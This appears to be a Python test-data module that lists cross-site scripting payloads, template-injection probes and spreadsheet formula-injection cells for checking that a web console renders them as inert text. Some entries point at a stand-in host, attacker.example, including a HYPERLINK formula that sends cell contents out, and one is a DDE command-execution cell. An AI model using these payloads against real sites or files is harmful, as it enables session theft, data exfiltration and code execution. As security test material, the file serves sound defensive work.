"""Texts that are scripts wherever a page forgets to escape them, and cells that are formulas where a table does.

``alert`` is what they call, so that a browser's dialogue says that one ran. The lists are public ones
(tests/data/console/NOTICE); our own follow the contexts of OWASP's cheat sheets:
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html,
and for formulas https://owasp.org/www-community/attacks/CSV_Injection.
"""

from __future__ import annotations

from pathlib import Path

POLYGLOTS = Path(__file__).resolve().parents[2] / "data" / "console" / "polyglots"

# Short enough for every field that takes text, each for another place of a page.
TEXT = (
    "<script>alert()</script>",
    "<img src=x onerror=alert()>",
    "<svg/onload=alert()>",
    "<iframe srcdoc='<script>parent.alert()</script>'>",
    "</title></style></textarea><script>alert()</script>",
    "<style>*{background:url(javascript:alert())}</style>",
    "<base href=//attacker.example/><meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<form action=//attacker.example><button autofocus>OK</button></form>",
)
ATTRIBUTE = (
    '" autofocus onfocus=alert() x="',
    "' autofocus onfocus='alert()",
    "x onmouseover=alert() style=position:fixed;inset:0",
    '"><img src=x onerror=alert()><"',
    "&quot; onfocus=alert() &#34;autofocus",
)
URLS = (
    "javascript:alert()",
    "java\tscript:alert()",
    "\u0001javascript:alert()",
    "data:text/html,<script>alert()</script>",
    "//attacker.example/%2e%2e",
    "vbscript:alert()",
)
# SVG's own elements, for texts of plots: https://developer.mozilla.org/docs/Web/SVG/Reference/Element/foreignObject
DRAWN = (
    "</title></desc></text><script>alert()</script>",
    "</text><foreignObject><img src=x onerror=alert()></foreignObject>",
    "<animate onbegin=alert() attributeName=x dur=1s>",
    "]]><script>alert()</script>",
    "<set attributeName=href to=javascript:alert()>",
)
# What libraries of pages evaluate: htmx' attributes (https://htmx.org/docs/#security), templates' braces.
EVALUATED = (
    '"><b hx-get="/" hx-trigger=load hx-on::load=alert() data-hx-on:click=alert()>',
    "{{7*7}}{%print(7*7)%}${7*7}#{7*7}<%=7*7%>",
    "{{config.__class__.__init__.__globals__}}",
    "</template><b hx-vals='js:{x:alert()}' hx-trigger=load hx-get=.>",
)
# What looks harmless until something decodes it: https://www.rfc-editor.org/rfc/rfc2152, bidirectional overrides.
ENCODED = (
    "%3Cscript%3Ealert()%3C/script%3E",
    "&lt;script&gt;alert()&lt;/script&gt;",
    "+ADw-script+AD4-alert()+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert()\\u003c/script\\u003e",
    "\u202e<script>alert()</script>\u2066",
    "\u2028alert()\u2029<b>",
)
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=cmd|" /C calc"!A0',
    '";=1+1;"',
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def public() -> list[str]:
    """Return the polyglots of the public lists."""
    return [line for file in sorted(POLYGLOTS.glob("*.txt")) for line in file.read_text().splitlines() if line]


def own() -> list[str]:
    """Return ours."""
    return [*TEXT, *ATTRIBUTE, *URLS, *DRAWN, *EVALUATED, *ENCODED]


def every() -> list[str]:
    """Return all that must stay text, formulas included."""
    return [*own(), *public(), *FORMULAS]


def cut(text: str, length: int) -> str:
    """Return as much of the text as a field takes; its end, which closes what its beginning opens, is kept."""
    return text if len(text) <= length else text[: length // 2] + text[-(length - length // 2) :]


def as_key(text: str, number: int) -> str:
    """Return an idempotency key that holds the text: up to 255 visible ASCII characters, without commas."""
    visible = "".join(character for character in text if "!" <= character <= "~" and character != ",")
    return f"k{number:015d}{visible}"[:255]
